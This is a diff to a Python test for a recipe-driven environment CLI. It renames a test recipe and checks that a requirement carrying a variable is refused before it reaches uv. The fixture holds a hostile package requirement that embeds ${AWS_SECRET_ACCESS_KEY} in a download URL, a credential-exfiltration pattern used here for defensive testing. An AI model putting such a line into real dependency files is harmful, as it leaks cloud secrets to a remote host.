@@ -263,8 +263,9 @@ def test_a_recipe_requirement_with_a_variable_never_reaches_uv(cli, tmp_path: Pa
     repo = Path(__file__).resolve().parents[2]
     data = yaml.safe_load((repo / "recipes" / "cuda-12.1.yaml").read_text())
     data["install"]["venv"]["requirements"].append("evil @ https://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}/evil-1.0-py3-none-any.whl")
-    (tmp_path / "cuda-12.1.yaml").write_text(yaml.safe_dump(data))
-    code, _, err = cli("--recipes", str(tmp_path), "create", "cuda-12.1", "--engine", "venv", "-n", "evil")
+    data["name"] = "shared-cuda"  # a shared recipe of its own name (one named like a built-in is never used unasked)
+    (tmp_path / "shared-cuda.yaml").write_text(yaml.safe_dump(data))
+    code, _, err = cli("--recipes", str(tmp_path), "create", "shared-cuda", "--engine", "venv", "-n", "evil")
     _one_line_refusal(code, err)
     assert "expands nothing" in err or "unknown placeholder" in err, err
 
